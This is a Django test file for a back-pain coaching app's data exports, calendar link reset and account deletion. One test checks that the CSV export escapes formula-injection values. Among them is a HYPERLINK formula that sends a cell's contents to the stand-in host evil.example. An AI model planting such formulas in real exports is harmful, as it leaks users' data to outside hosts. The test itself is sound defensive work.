import csv
import io

from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from backcoach.web.coach.models import CalendarFeed, SessionLog
from backcoach.web.coach.services.checkins import checkin_record
from tests.web.conftest import PASSWORD
from tests.web.sessions import post_session, session_body


def test_it_exports_everything_as_json(maria_client):
    body = session_body()
    post_session(maria_client, body)
    response = maria_client.get(reverse("export_json"))
    assert response["Content-Disposition"].startswith("attachment;")
    data = response.json()
    assert data["account"]["username"] == "maria"
    assert data["sessions"][0]["client_id"] == body["id"]
    assert data["sessions"][0]["results"][0]["exercise"] == "bird-dog"


def test_it_exports_sessions_as_csv(maria_client):
    post_session(maria_client, session_body())
    response = maria_client.get(reverse("export_csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["exercise"] == "bird-dog"
    assert rows[0]["pain_after"] == "3"


def test_it_keeps_spreadsheets_from_running_a_note_as_a_formula(maria_client):
    # OWASP's CSV injection: a cell starting = + - @ (or tab, CR) runs as a formula.
    notes = {
        '=HYPERLINK("https://evil.example/?"&A2,"click")': "'=HYPERLINK(",
        "+1+1": "'+1+1",
        "-2 reps, felt fine": "'-2 reps",
        "@SUM(1,1)": "'@SUM(1,1)",
        "\tcmd": "'\tcmd",
        "\r=1": "'\r=1",
        "A plain note = fine": "A plain note = fine",
    }
    for note in notes:
        post_session(maria_client, session_body(notes=note, title="=1+2"))
    response = maria_client.get(reverse("export_csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert [r["title"] for r in rows] == ["'=1+2"] * len(notes)
    for row, starts in zip(rows, notes.values(), strict=True):
        assert row["notes"].startswith(starts)
    assert maria_client.get(reverse("export_json")).json()["sessions"][0]["notes"].startswith("=")


def test_it_exports_the_morning_check_ins_as_csv(maria_client, maria):
    checkin_record(user=maria, date=timezone.localdate(), pain=2, sore=True)
    rows = list(
        csv.reader(io.StringIO(maria_client.get(reverse("export_checkins")).content.decode()))
    )
    assert rows == [["date", "pain", "sore"], [timezone.localdate().isoformat(), "2", "True"]]


def test_it_resets_the_calendar_link(maria_client, maria):
    maria_client.get(reverse("my_data"))
    old = CalendarFeed.objects.get(user=maria).token
    maria_client.post(reverse("calendar_reset"))
    new = CalendarFeed.objects.get(user=maria).token
    assert new != old
    assert Client().get(reverse("calendar_feed", args=[old])).status_code == 404


def test_it_deletes_the_account_and_everything_in_it(maria_client, maria):
    post_session(maria_client, session_body())
    wrong = maria_client.post(reverse("delete_account"), {"password": "not mine"})
    assert wrong.status_code == 200
    assert User.objects.filter(pk=maria.pk).exists()
    maria_client.post(reverse("delete_account"), {"password": PASSWORD})
    assert not User.objects.filter(pk=maria.pk).exists()
    assert not SessionLog.objects.exists()
    assert maria_client.get(reverse("my_data")).status_code == 302
